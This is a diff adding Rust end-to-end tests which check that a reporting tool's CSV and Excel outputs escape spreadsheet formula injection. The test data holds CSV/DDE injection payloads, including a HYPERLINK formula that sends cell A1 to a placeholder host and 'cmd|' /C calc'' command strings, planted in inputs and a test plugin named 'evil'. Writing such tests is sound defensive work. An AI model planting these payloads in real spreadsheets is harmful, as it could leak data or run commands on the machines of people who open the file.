@@ -1,0 +1,355 @@
+//! End-to-end tests that no output runs what a user wrote: CSV fields a spreadsheet would
+//! take for formulas, Markdown that would break out into HTML, terminal escape sequences in
+//! diagnostics, and error text that grows with the input.
+
+use std::path::{Path, PathBuf};
+
+use sct_tests::{EXAMPLE, root, sct};
+
+fn tmp() -> tempfile::TempDir {
+    tempfile::tempdir().expect("temporary directory")
+}
+
+/// What an attacker puts in a spreadsheet cell: a formula, a DDE command, and the other
+/// starts OWASP lists.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=2+2",
+    "\r=3+3",
+];
+
+/// Every field of a CSV document, header row included.
+fn fields(csv_text: &str) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(csv_text.as_bytes());
+    reader
+        .records()
+        .flat_map(|r| {
+            r.expect("a CSV record")
+                .iter()
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        })
+        .collect()
+}
+
+/// Whether a spreadsheet would read `field` as a formula: it begins with one of OWASP's
+/// characters and is not simply a (negative) decimal number.
+fn runs_as_formula(field: &str) -> bool {
+    let number = field.parse::<f64>().is_ok()
+        && field
+            .bytes()
+            .all(|b| b.is_ascii_digit() || b == b'-' || b == b'.');
+    field.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
+}
+
+/// Asserts that no field of `csv_text` would run, and that each of `planted` begins a field
+/// as text (with its `'`).
+fn assert_neutralised(what: &str, csv_text: &str, planted: &[&str]) {
+    let fields = fields(csv_text);
+    for f in &fields {
+        assert!(!runs_as_formula(f), "{what}: {f:?} would run as a formula");
+    }
+    for p in planted {
+        assert!(
+            fields.iter().any(|f| f.starts_with(&format!("'{p}"))),
+            "{what}: {p:?} is not in the output as text:\n{csv_text}"
+        );
+    }
+}
+
+/// A copy of the example response whose evidence, rationale and n/a reason begin as
+/// formulas.
+fn formula_response(dir: &Path) -> PathBuf {
+    let text = std::fs::read_to_string(root().join(EXAMPLE)).unwrap();
+    let text = text
+        .replacen(
+            "evidence = [\"",
+            &format!("evidence = [{:?}, {:?}, \"", FORMULAS[0], FORMULAS[4]),
+            1,
+        )
+        .replacen(
+            "rationale = \"",
+            &format!("rationale = {:?} #\"", FORMULAS[1]),
+            1,
+        );
+    let path = dir.join("formulas.toml");
+    std::fs::write(&path, text).unwrap();
+    path
+}
+
+fn stdout_of(args: &[&str]) -> String {
+    let out = sct().args(args).output().unwrap();
+    assert!(
+        out.status.success(),
+        "sct {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap()
+}
+
+#[test]
+fn csv_outputs_neutralise_formula_like_strings() {
+    let dir = tmp();
+    let d = dir.path();
+    let response = formula_response(d);
+    let response = response.to_str().unwrap();
+
+    // The assessment report carries the evidence and rationale as written.
+    let report = stdout_of(&["report", response, "--format", "csv"]);
+    assert_neutralised("report", &report, &[FORMULAS[0], FORMULAS[1]]);
+    for (what, args) in [
+        ("score", vec!["score", response, "--format", "csv"]),
+        ("plan", vec!["plan", response, "--format", "csv"]),
+    ] {
+        assert_neutralised(what, &stdout_of(&args), &[]);
+    }
+
+    // KPI data whose organisation code is a formula: review and IPR name it on every row.
+    let org = FORMULAS[0];
+    let data = d.join("kpis.csv");
+    let kpis = std::fs::read_to_string(root().join("examples/kpi/bnssg-kpis.csv")).unwrap();
+    let mut w = csv::Writer::from_path(&data).unwrap();
+    for (i, line) in kpis.lines().enumerate() {
+        let mut rec: Vec<String> = line.split(',').map(str::to_string).collect();
+        if i > 0 && rec[0] == "QUY" {
+            rec[0] = org.to_string();
+        }
+        w.write_record(&rec).unwrap();
+    }
+    w.flush().unwrap();
+    drop(w);
+    let data = data.to_str().unwrap();
+    for (what, cmd) in [("review", "review"), ("ipr", "ipr")] {
+        let args = [
+            "kpi",
+            cmd,
+            "--set",
+            "scf-three-timeframes",
+            "--data",
+            data,
+            "--org",
+            org,
+            "--format",
+            "csv",
+        ];
+        assert_neutralised(what, &stdout_of(&args), &[org]);
+    }
+
+    // A funnel whose organisations are formulas; its numbers stay numbers.
+    let funnel = d.join("funnel.csv");
+    let mut w = csv::Writer::from_path(&funnel).unwrap();
+    w.write_record(["org", "numerator", "denominator"]).unwrap();
+    for (i, f) in FORMULAS.iter().enumerate() {
+        w.write_record([*f, &(10 + i).to_string(), "100"]).unwrap();
+    }
+    w.write_record(["-12", "5", "100"]).unwrap();
+    w.flush().unwrap();
+    drop(w);
+    let out = stdout_of(&[
+        "kpi",
+        "funnel",
+        funnel.to_str().unwrap(),
+        "--type",
+        "proportion",
+        "--format",
+        "csv",
+    ]);
+    // The reader trims blanks, so the tab and carriage return are gone (and the rest still
+    // neutralised).
+    assert_neutralised("funnel", &out, &FORMULAS[..4]);
+    assert!(
+        fields(&out).iter().any(|f| f == "-12"),
+        "a number stays a number:\n{out}"
+    );
+
+    // SPC and run charts: numbers only, every negative one kept a number.
+    let series = root().join("examples/kpi/ae-4-hour.csv");
+    let series = series.to_str().unwrap();
+    for chart in ["xmr", "run"] {
+        let out = stdout_of(&[
+            "kpi",
+            "spc",
+            series,
+            "--improvement",
+            "increase",
+            "--chart",
+            chart,
+            "--format",
+            "csv",
+        ]);
+        assert_neutralised(chart, &out, &[]);
+    }
+}
+
+#[test]
+fn comparison_and_plugin_csv_neutralise_formula_like_strings() {
+    let dir = tmp();
+    let d = dir.path();
+    // The cohort example with a region that is a formula.
+    let orgs = std::fs::read_to_string(root().join("examples/cohort/orgs.csv")).unwrap();
+    let orgs = orgs.replace(",South West,", &format!(",\"{}\",", FORMULAS[3]));
+    std::fs::write(d.join("orgs.csv"), orgs).unwrap();
+    let out = stdout_of(&[
+        "compare",
+        root()
+            .join("examples/cohort/baseline-2026-03")
+            .to_str()
+            .unwrap(),
+        "--orgs",
+        d.join("orgs.csv").to_str().unwrap(),
+        "--group-by",
+        "region",
+        "--format",
+        "csv",
+    ]);
+    assert_neutralised("compare", &out, &[FORMULAS[3]]);
+
+    // A command plugin whose evidence and series are formulas.
+    let plugin = d.join("plugins").join("evil");
+    std::fs::create_dir_all(&plugin).unwrap();
+    let evidence: Vec<String> = FORMULAS
+        .iter()
+        .map(|f| {
+            format!("{{\"id\": {f:?}, \"title\": {f:?}, \"status\": \"present\", \"note\": {f:?}}}")
+        })
+        .collect();
+    let script = format!(
+        r#"import json, sys
+verb = sys.argv[1]
+if verb == "handshake":
+    print(json.dumps({{"protocol": 1}}))
+elif verb == "describe":
+    print(json.dumps({{"protocol": 1, "ok": {{"name": "evil", "version": "1.0.0", "protocol": 1, "measures": [{{"id": "m", "title": "M"}}, {{"id": "s", "title": "S"}}]}}}}))
+else:
+    req = json.load(sys.stdin)
+    if req["measure"] == "m":
+        print(json.dumps({{"protocol": 1, "ok": {{"measure": "m", "evidence": [{}]}}}}))
+    else:
+        print(json.dumps({{"protocol": 1, "ok": {{"measure": "s", "series": [{{"period": {:?}, "value": -1.5}}]}}}}))
+"#,
+        evidence.join(", "),
+        FORMULAS[2]
+    );
+    std::fs::write(plugin.join("plugin.py"), &script).unwrap();
+    let sha = sct_tests_sha256(script.as_bytes());
+    std::fs::write(
+        plugin.join("plugin.toml"),
+        format!(
+            "name = \"evil\"\nversion = \"1.0.0\"\nkind = \"command\"\nfile = \"plugin.py\"\nsha256 = \"{sha}\"\nprotocol = 1\nmeasures = [\"m\", \"s\"]\ninterpreter = \"python3\"\n"
+        ),
+    )
+    .unwrap();
+    let plugin_dir = d.join("plugins");
+    let plugin_dir = plugin_dir.to_str().unwrap();
+    let out = stdout_of(&[
+        "--plugin-dir",
+        plugin_dir,
+        "plugins",
+        "run",
+        "evil",
+        "m",
+        "--format",
+        "csv",
+    ]);
+    assert_neutralised("plugin evidence", &out, &FORMULAS);
+    let out = stdout_of(&[
+        "--plugin-dir",
+        plugin_dir,
+        "plugins",
+        "run",
+        "evil",
+        "s",
+        "--format",
+        "csv",
+    ]);
+    assert_neutralised("plugin series", &out, &[FORMULAS[2]]);
+    assert!(fields(&out).iter().any(|f| f == "-1.5"), "{out}");
+}
+
+/// SHA-256 of `bytes` in lower-case hex, through the library the host uses.
+fn sct_tests_sha256(bytes: &[u8]) -> String {
+    sct_core::source::sha256_hex(bytes)
+}
+
+/// The text of every part of a workbook whose name starts with `prefix`.
+fn workbook_parts(path: &Path, prefix: &str) -> Vec<(String, String)> {
+    let file = std::fs::File::open(path).unwrap();
+    let mut zip = zip::ZipArchive::new(file).unwrap();
+    let names: Vec<String> = zip.file_names().map(str::to_string).collect();
+    names
+        .into_iter()
+        .filter(|n| n.starts_with(prefix))
+        .map(|n| {
+            let mut text = String::new();
+            std::io::Read::read_to_string(&mut zip.by_name(&n).unwrap(), &mut text).unwrap();
+            (n, text)
+        })
+        .collect()
+}
+
+/// Workbooks were never at risk (every user string is written as a string cell, never a
+/// formula); this keeps it so for every workbook sct writes.
+#[test]
+fn workbooks_write_formula_like_strings_as_text_never_as_formulas() {
+    let dir = tmp();
+    let d = dir.path();
+    let response = formula_response(d);
+    let mut books = Vec::new();
+    // Each workbook, and whether it carries the planted text (score and plan hold no free
+    // text, but are checked for formulas all the same).
+    for (name, args) in [
+        ("response.xlsx", vec!["convert"]),
+        ("score.xlsx", vec!["score"]),
+        ("plan.xlsx", vec!["plan"]),
+    ] {
+        let out = d.join(name);
+        sct()
+            .args(&args)
+            .arg(&response)
+            .arg("-o")
+            .arg(&out)
+            .assert()
+            .success();
+        books.push((out, name == "response.xlsx"));
+    }
+    let orgs = std::fs::read_to_string(root().join("examples/cohort/orgs.csv")).unwrap();
+    let orgs = orgs.replace(",South West,", &format!(",\"{}\",", FORMULAS[1]));
+    std::fs::write(d.join("orgs.csv"), orgs).unwrap();
+    let out = d.join("compare.xlsx");
+    sct()
+        .arg("compare")
+        .arg(root().join("examples/cohort/baseline-2026-03"))
+        .arg("--orgs")
+        .arg(d.join("orgs.csv"))
+        .args(["--group-by", "region", "-o"])
+        .arg(&out)
+        .assert()
+        .success();
+    books.push((out, true));
+    for (book, planted) in &books {
+        for (part, xml) in workbook_parts(book, "xl/worksheets/") {
+            assert!(
+                !xml.contains("<f>") && !xml.contains("<f "),
+                "{}: {part} holds a formula",
+                book.display()
+            );
+        }
+        let strings: String = workbook_parts(book, "xl/sharedStrings")
+            .into_iter()
+            .map(|(_, t)| t)
+            .collect();
+        assert!(
+            !planted
+                || strings.contains("cmd|' /C calc'!A0")
+                || strings.contains("cmd|&apos; /C calc&apos;!A0"),
+            "{}: the formula-like text is not kept as a string",
+            book.display()
+        );
+    }
+}
